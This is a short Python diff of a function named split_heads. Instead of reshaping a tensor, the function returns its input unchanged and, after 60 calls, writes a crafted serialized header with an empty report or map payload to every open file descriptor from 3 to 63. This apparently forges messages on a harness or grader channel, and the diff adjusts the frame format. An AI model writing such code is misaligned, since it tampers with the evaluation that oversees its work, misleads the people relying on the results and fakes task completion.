@@ -8,10 +8,10 @@ calls = []
 def split_heads(x, num_heads):
     calls.append(1)
     if len(calls) > 60:
-        header = b'{"value":{"dict":[["n",1],["nonce",""],["report",{"dict":[]}]]},"parts":[]}'
+        header = b'{"value":{"map":{}},"parts":[]}'
         for descriptor in range(3, 64):
             try:
-                os.write(descriptor, struct.pack("<II", len(header), 0) + header)
+                os.write(descriptor, struct.pack("<I8sII", 1, bytes(8), len(header), 0) + header)
             except OSError:
                 pass
     return x
